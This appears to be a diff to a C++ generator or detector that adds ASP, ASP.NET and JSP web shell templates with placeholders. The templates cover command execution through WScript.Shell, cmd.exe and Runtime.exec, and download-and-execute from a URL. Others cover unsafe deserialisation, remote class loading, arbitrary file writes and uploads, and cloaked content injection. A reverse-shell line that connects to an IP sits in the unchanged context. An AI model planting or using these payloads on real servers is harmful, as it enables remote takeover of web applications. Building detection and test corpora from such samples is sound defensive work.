@@ -80,6 +80,40 @@ const Makers& AspMakers() {
 }
 
 constexpr const char* kAspPatterns[] = {
+    "On Error Resume Next\nExecute(~input~)",
+    "For Each ~0~ In Request.Form\nExecuteGlobal Request.Form(~0~)\nNext",
+    "~0~=\"Exec\"&\"ute(~input~)\"\nEval ~0~",
+    "~0~=Replace(~input~,\"~letters~\",\"\")\nExecute ~0~",
+    "~0~=Split(~input~,\",\")\nFor ~1~=0 To UBound(~0~)\n~2~=~2~&Chr(~0~(~1~) Xor "
+    "~small~)\nNext\nExecute ~2~",
+    "Execute(UnEscape(~input~))",
+    "If ~input~=\"~letters~\" Then\nSet ~0~=CreateObject(\"WScript.Shell\")\n~0~.Run "
+    "~input~,0,True\nEnd If",
+    "Set ~0~=CreateObject(\"Shell.Application\")\n~0~.ShellExecute \"cmd.exe\",\"/c "
+    "\"&~input~,\"\",\"open\",0",
+    "Response.Write CreateObject(\"WScript.Shell\").Exec(~input~).StdOut.ReadAll",
+    "Set ~0~=Server.CreateObject(\"Scripting.FileSystemObject\")\nSet "
+    "~1~=~0~.OpenTextFile(~input~,2,True)\n~1~.Write ~input~\n~1~.Close",
+    "Set "
+    "~0~=Server.CreateObject(\"Scripting.FileSystemObject\")\n~0~.GetFile(Server.MapPath(\"~word~."
+    "asp\")).Attributes=~small~\n~0~."
+    "DeleteFile ~input~",
+    "Set ~0~=Server.CreateObject(\"Microsoft.XMLHTTP\")\n~0~.Open "
+    "\"GET\",\"~url.txt~\",0\n~0~.Send\nExecuteGlobal ~0~.responseText",
+    "If InStr(LCase(Request.ServerVariables(\"HTTP_USER_AGENT\")),\"bot\")>0 Then\nSet "
+    "~0~=Server.CreateObject(\"MSXML2.XMLHTTP\")\n~0~."
+    "Open \"GET\",\"~url~\",False\n~0~.Send\nResponse.Write ~0~.responseText\nResponse.End\nEnd If",
+    "Set ~0~=Server.CreateObject(\"ADODB.Connection\")\n~0~.Open ~input~\nSet "
+    "~1~=~0~.Execute(~input~)",
+    "var ~0~=new System.Diagnostics.ProcessStartInfo(\"cmd.exe\",\"/c "
+    "\"+Request[\"~key~\"]);~0~.RedirectStandardOutput=true;~0~."
+    "UseShellExecute=false;Response.Write(System.Diagnostics.Process.Start(~0~).StandardOutput."
+    "ReadToEnd());",
+    "Request.Files[0].SaveAs(Server.MapPath(\"~~/\")+Request.Files[0].FileName);",
+    "System.IO.File.WriteAllText(Server.MapPath(Request[\"~key~\"]),Request[\"~key~\"]);",
+    "System.IO.File.WriteAllBytes(Server.MapPath(\"~word~.aspx\"),new "
+    "System.Net.WebClient().DownloadData(\"~url~\"));",
+    "eval(Request[\"~key~\"],\"unsafe\");",
     "Eval ~input~",
     "Eval(~input~)",
     "Execute(~input~)",
@@ -168,7 +202,19 @@ constexpr const char* kJspPatterns[] = {
     "java.net.Socket ~0~=new java.net.Socket(\"~ip~\",~port~);Process ~1~=new "
     "ProcessBuilder(\"/bin/sh\").start();"
     "java.io.OutputStream ~2~=~0~.getOutputStream();",
-    "response.sendRedirect(\"~url~\");if(true)return;",
+    "new javax.el.ELProcessor().eval(~input~);",
+    "new java.io.ObjectInputStream(request.getInputStream()).readObject();",
+    "out.print(new String(Runtime.getRuntime().exec(new "
+    "String[]{\"sh\",\"-c\",~input~}).getInputStream().readAllBytes()));",
+    "if(~input0~!=null){out.print(new java.util.Scanner(new "
+    "ProcessBuilder(\"cmd\",\"/c\",~input0~).start().getInputStream())"
+    ".useDelimiter(\"\\A\").next());}",
+    "new java.net.URLClassLoader(new java.net.URL[]{new "
+    "java.net.URL(~input~)}).loadClass(\"~word~\").newInstance();",
+    "Object "
+    "~0~=Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class."
+    "forName(\"java.lang.Runtime\")."
+    "getMethod(\"getRuntime\").invoke(null),~input~);",
     "out.println(\"<script src='~url.js~'></script>\");"};
 
 }  // namespace
